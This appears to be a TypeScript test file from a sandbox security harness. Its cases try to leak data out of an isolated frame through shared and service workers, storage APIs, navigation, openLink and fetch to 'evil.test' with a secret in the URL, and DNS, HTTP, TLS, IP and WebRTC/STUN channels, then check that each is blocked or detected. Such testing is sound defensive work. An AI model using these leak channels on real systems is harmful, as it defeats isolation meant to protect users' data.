// Ways out that ask the host page or the server, and the proof that the sinks hear everything.
import type { Stage } from "../arena/stage.ts";
import type { Vector } from "../arena/vector.ts";
import type { Case } from "./case.ts";
import { absent, check } from "./check.ts";

const toHost = (path: string): Vector => ({
  name: path,
  alone: true,
  attack: new Function("evil", `location.href = evil.page + ${JSON.stringify(path)};`) as Vector["attack"],
});

async function towardsHost(stage: Stage, { name, attack }: Vector) {
  const tab = await stage.run(`setTimeout(() => document.querySelector("#go").addEventListener("click", () => (${attack})({ page: ${JSON.stringify(stage.target.origin)} })), 0);`);
  await tab.clickInFrame("#go");
  await stage.sinks.hits(stage.sinks.tag(48), 800);
  const documents = (await tab.frames()).join(" ");
  await tab.close();
  return check(name, !documents.includes(stage.target.origin), `the frame holds ${documents || "nothing"}`);
}

const kinds: readonly Vector[] = [
  { name: "DNS", attack: ({ host }) => fetch(`http://${host}:81/`) },
  { name: "HTTP", attack: ({ http }) => fetch(http, { mode: "no-cors" }) },
  { name: "TLS", attack: ({ https }) => fetch(https, { mode: "no-cors" }) },
  { name: "address", attack: ({ ip, tag }) => fetch(`http://${ip}/${tag}`, { mode: "no-cors" }) },
  {
    name: "UDP",
    attack: async ({ ip, udp }) => {
      const connection = new RTCPeerConnection({ iceServers: [{ urls: `stun:${ip}:${udp}` }] });
      connection.createDataChannel("x");
      await connection.setLocalDescription(await connection.createOffer());
      Object.assign(window, { hostileKeep: connection });
    },
  },
];

/** Cases 44 and 48 to 51. */
export const asks: readonly Case[] = [
  {
    id: 44,
    title: "shared and service workers",
    category: "exfiltration",
    async run(stage) {
      const tab = await stage.run("");
      const seen = await tab.inFrame(async () => {
        const url = URL.createObjectURL(new Blob(["onconnect = () => {}"], { type: "text/javascript" }));
        const tries: Record<string, () => unknown> = {
          "shared worker": () => {
            const shared = new SharedWorker(url);
            return new Promise((resolve, reject) => {
              shared.onerror = () => reject(new DOMException("", "did not start"));
              shared.port.start();
              setTimeout(() => resolve("started"), 500);
            });
          },
          "service worker": () => navigator.serviceWorker.register("js/app.js"),
          caches: () => caches.open("evil"),
          IndexedDB: () =>
            new Promise((resolve, reject) => {
              const request = indexedDB.open("evil");
              request.onsuccess = resolve;
              request.onerror = () => reject(request.error);
            }),
          "file system": () => navigator.storage.getDirectory(),
          "cookie store": () => (window as any).cookieStore.set("evil", "1"),
        };
        const results: Record<string, string> = {};
        for (const [name, attack] of Object.entries(tries)) {
          try {
            await attack();
            results[name] = "worked";
          } catch (error) {
            results[name] = (error as Error).name;
          }
        }
        return results;
      });
      return Object.entries(seen).map(([name, result]) => check(name, result !== "worked", result));
    },
  },
  {
    id: 48,
    title: "navigating to the server's own pages",
    category: "exfiltration",
    async run(stage) {
      const paths = ["/", "/login", "/api/apps", "/settings", "/?token=x"];
      return await Promise.all(paths.map((path) => towardsHost(stage, toHost(path))));
    },
  },
  {
    id: 49,
    title: "openLink with a secret in the address",
    category: "exfiltration",
    run: async (stage) => [await absent(stage, "ui.openLink", { url: "http://evil.test/?secret" })],
  },
  {
    id: 50,
    title: "http.fetch without a grant",
    category: "exfiltration",
    run: async (stage) => [await absent(stage, "http.fetch", { url: "http://evil.test/?secret" })],
  },
  {
    id: 51,
    title: "the sinks hear everything",
    category: "exfiltration",
    run: (stage) => stage.hear(51, kinds),
  },
];
